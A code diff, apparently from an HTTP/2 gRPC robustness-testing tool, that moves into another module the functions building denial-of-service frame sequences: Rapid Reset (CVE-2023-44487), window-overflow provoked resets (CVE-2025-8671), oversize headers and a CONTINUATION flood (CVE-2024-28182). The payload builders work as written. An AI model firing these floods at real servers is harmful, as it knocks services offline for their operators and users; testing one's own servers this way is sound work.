@@ -5,7 +5,8 @@
  */
 import { Buffer } from "node:buffer";
 import net from "node:net";
-import { callHeaders, ERROR, FLAG, FRAME, frame, headerBlock, opening, PREFACE, uint32 } from "./http2_frames.ts";
+import { call, continuationFlood, many, openCall, oversizeHeaders, provokedResets, resets } from "./http2_calls.ts";
+import { callHeaders, ERROR, FRAME, frame, headerBlock, opening, PREFACE, uint32 } from "./http2_frames.ts";
 
 /** Where to be rude. `path` is a unary gRPC method, as `/package.Service/Method`. */
 export interface Victim {
@@ -169,51 +170,6 @@ async function sendAll(socket: net.Socket, chunks: Iterable<Uint8Array>): Promis
   }
 }
 
-/** A whole call on a stream: headers, an empty message, end. */
-export function call(path: string, stream: number): Buffer {
-  return Buffer.concat([openCall(path, stream), frame(FRAME.data, FLAG.endStream, stream, Buffer.alloc(5))]);
-}
-
-/** The headers of a call whose message is still to come. */
-export function openCall(path: string, stream: number): Buffer {
-  return frame(FRAME.headers, FLAG.endHeaders, stream, callHeaders(path));
-}
-
-/** Calls that are reset as soon as they are open (CVE-2023-44487). */
-export function resets(path: string, count: number): Iterable<Buffer> {
-  return many(
-    count,
-    (i) => Buffer.concat([call(path, 2 * i + 1), frame(FRAME.reset, 0, 2 * i + 1, uint32(ERROR.cancel))]),
-  );
-}
-
-/** Calls that make the server reset them, by a window that overflows (CVE-2025-8671). */
-export function provokedResets(path: string, count: number): Iterable<Buffer> {
-  return many(
-    count,
-    (i) => Buffer.concat([openCall(path, 2 * i + 1), frame(FRAME.windowUpdate, 0, 2 * i + 1, uint32(0x7fffffff))]),
-  );
-}
-
-/** A header block of about `size` bytes over one HEADERS and many CONTINUATION frames, complete. */
-export function oversizeHeaders(path: string, stream: number, size: number): Buffer[] {
-  const block = callHeaders(path, many(Math.ceil(size / 1_000), (i) => [`x-${i}`, "a".repeat(990)]));
-  const frames = [frame(FRAME.headers, FLAG.endStream, stream, block.subarray(0, 16_000))];
-  for (let from = 16_000; from < block.length; from += 16_000) {
-    const last = from + 16_000 >= block.length;
-    const part = block.subarray(from, from + 16_000);
-    frames.push(frame(FRAME.continuation, last ? FLAG.endHeaders : 0, stream, part));
-  }
-  return frames;
-}
-
-/** A header block that never ends (CVE-2024-28182). */
-export function continuationFlood(path: string, count: number, empty: boolean): Iterable<Buffer> {
-  const more = headerBlock(empty ? [] : [["x", "a".repeat(100)]]);
-  const flood = many(count, () => frame(FRAME.continuation, 0, 1, more));
-  return [frame(FRAME.headers, FLAG.endStream, 1, callHeaders(path)), ...flood];
-}
-
 function halfMessage(random: Random): Buffer {
   const declared = Buffer.concat([Buffer.of(0), uint32(any(random, [10, 60_000, 0xffffffff]))]);
   return Buffer.concat([declared, randomBytes(random, 9)]);
@@ -235,8 +191,4 @@ function any<T>(random: Random, choices: readonly T[]): T {
 /** Frames of 1 to `most` streams, by their odd stream ids. */
 function upTo(random: Random, most: number, frames: (stream: number) => Buffer[]): Buffer[] {
   return many(1 + Math.floor(random() * most), (i) => frames(2 * i + 1)).flat();
-}
-
-function many<T>(count: number, one: (index: number) => T): T[] {
-  return Array.from({ length: count }, (_, index) => one(index));
 }
